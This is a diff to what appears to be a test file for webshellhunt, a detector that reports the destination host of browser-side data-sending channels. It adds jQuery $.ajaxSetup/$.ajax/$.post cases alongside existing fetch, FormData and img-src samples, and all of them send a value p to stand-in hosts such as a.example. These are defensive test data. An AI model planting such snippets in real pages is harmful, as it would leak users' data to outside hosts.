@@ -18,6 +18,11 @@ from webshellhunt.analysis.browser.channels import Channel
         ("$.ajax('//a.example', { data: p });", "a.example"),
         ("fetch(a ? '/x' : '//a.example', { body: p });", "a.example"),
         ("var f = new FormData(); f.append('p', p); fetch('//a.example', { body: f });", "a.example"),
+        ("$.ajaxSetup({ url: '//a.example' }); $.ajax({ data: p });", "a.example"),
+        ("$.ajaxSetup({ url: '//a.example', data: p }); $.ajax();", "a.example"),
+        ("$.ajaxSetup({ url: '//a.example' }); $.ajax({ url: '//b.example', data: p });", "b.example"),
+        ("$.ajaxSetup({ url: '//a.example' }); $.post('//b.example', p);", "b.example"),
+        ("$.ajaxSetup({ data: { a: p } }); $.post('//a.example');", "a.example"),
         ("a.innerHTML = '<img src=//a.example/?' + p + '>';", "a.example"),
     ],
 )
